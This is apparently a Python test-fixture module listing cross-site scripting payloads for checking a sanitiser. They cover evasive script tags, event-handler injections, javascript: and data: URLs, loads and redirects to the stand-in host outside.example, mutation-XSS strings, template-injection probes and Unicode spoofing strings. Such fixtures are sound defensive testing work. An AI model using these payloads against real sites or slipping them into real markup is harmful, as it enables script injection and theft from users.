"""What attackers write: markup that runs, loads, leaves the page or hides, each with a mark of its own.

Whatever of it comes alive calls `hit()`, opens a dialog, asks the host `outside.example` or leaves the page.
"""

from __future__ import annotations

HOST = "outside.example"

SCRIPTS = [
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script src=//outside.example/x.js></script>",
    "<script\x0csrc='https://outside.example/y.js'></script>",
    "<script>hit()//",
    "<script/x>hit()</script>",
    "<<script>hit()//<</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<svg><script>hit()</script></svg>",
    "<svg><script href='https://outside.example/z.js'/></svg>",
    "</textarea></title></style></noscript><script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "--><script>hit()</script>",
    "</iframe><script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\ufeff<script>hit()</script>",
    "<\u200bscript>hit()</script>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u202e<script>hit()</script>",
]
HANDLERS = [
    "<img src=x onerror=hit()>",
    "<img src=//outside.example/p.png>",
    "<img/src/onerror=hit()>",
    "<img src=x onerror\n=\nhit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set onbegin=hit() attributeName=x to=y>",
    "<body onload=hit()>",
    "<body onpageshow=hit()>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<object data=//outside.example/o onerror=hit()></object>",
    "<embed src=//outside.example/e>",
    "<iframe src='javascript:parent.hit()'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=//outside.example/frame></iframe>",
    "<p style='animation-name:x' onanimationstart=hit()>x</p>",
    "<style>@keyframes x{}p{animation-name:x}</style><p onanimationstart=hit()>x</p>",
    '" onfocus=hit() autofocus x="',
    "' onmouseover='hit()",
    "` onfocus=hit() autofocus `",
]
PLACES = [
    "<a href='javascript:hit()' id=lure>press</a>",
    "<a href='data:text/html,<script>opener.hit()</script>'>press</a>",
    "<a href=java&#9;script:hit()>press</a>",
    "[press](javascript:hit())",
    "[press](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "![p](https://outside.example/md.png)",
    "<form action=//outside.example/f><button autofocus>press</button></form>",
    "<base href=//outside.example/>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/r'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<link rel=stylesheet href=//outside.example/s.css>",
    "<link rel=prefetch href=//outside.example/pre>",
    "<link rel=preconnect href=//outside.example>",
    "<style>@import '//outside.example/i.css';</style>",
    "<style>body{background:url(//outside.example/b.png)}</style>",
    "<div style='background:url(//outside.example/d.png)'>x</div>",
    "<div style='width:expression(hit())'>x</div>",
    "<table background=//outside.example/t.png><tr><td>x</table>",
    "<image href=//outside.example/i.png>",
    "<svg><image href='//outside.example/j.png'/><use href='//outside.example/u.svg#a'/></svg>",
    "<video poster=//outside.example/v.png></video>",
    "<object type=text/html data=javascript:hit()></object>",
    "<portal src=//outside.example/portal></portal>",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<math><annotation-xml encoding='text/html'><script>hit()</script></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject></svg>",
    "<template><script>hit()</script></template>",
    "<title><img src=x onerror=hit()></title>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
    "<select><style></select><img src=x onerror=hit()></style>",
    "<a><table><a><img src=x onerror=hit()></table>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "<?xml version='1.0'?><img src=x onerror=hit()>",
    '<p title="</p><img src=x onerror=hit()>">x</p>',
]
TEMPLATES = [
    "{{7*191}}",
    "{{ self._TemplateReference__context }}",
    "{% include 'page.html' %}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{0.__class__.__mro__}",
    "%(secret)s",
    "{secret}",
]
BIDI = [
    "\u202eSTOP\u202c",
    "\u2066\u202eevil\u2069",
    "\u200f\u200e\u061c",
    "zero\u200bwidth\u200c\u200d\u2060",
    "p\u0430ypal",
    "a\u0300\u0301" * 40,
]

ALL = SCRIPTS + HANDLERS + PLACES + MUTATIONS + TEMPLATES + BIDI
MARKUP = SCRIPTS + HANDLERS + PLACES + MUTATIONS
# What brings along no line break, for the places that are one line.
ONE = "".join(
    (
        "\"'><script>hit()</script><img src=x onerror=hit()><svg onload=hit()><a href=javascript:hit()>a</a>",
        "<iframe src=//outside.example/one></iframe>{{7*191}}\u202etxt",
    )
)
